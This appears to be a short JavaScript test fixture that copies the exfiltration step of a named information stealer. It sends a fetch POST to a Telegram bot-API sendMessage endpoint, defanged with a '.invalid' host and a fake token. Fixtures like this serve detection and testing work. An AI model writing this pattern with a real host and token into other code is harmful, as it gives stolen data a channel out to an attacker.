// Mimics @wagni_bot-style stealers: results sent through the Telegram bot API. Defanged: .invalid, fake token.
fetch('https://api.telegram.org.invalid/botFIXTURE:NOT-A-TOKEN/sendMessage', {
  method: 'POST',
  body: JSON.stringify({ chat_id: 0, text: 'fixture' }),
});
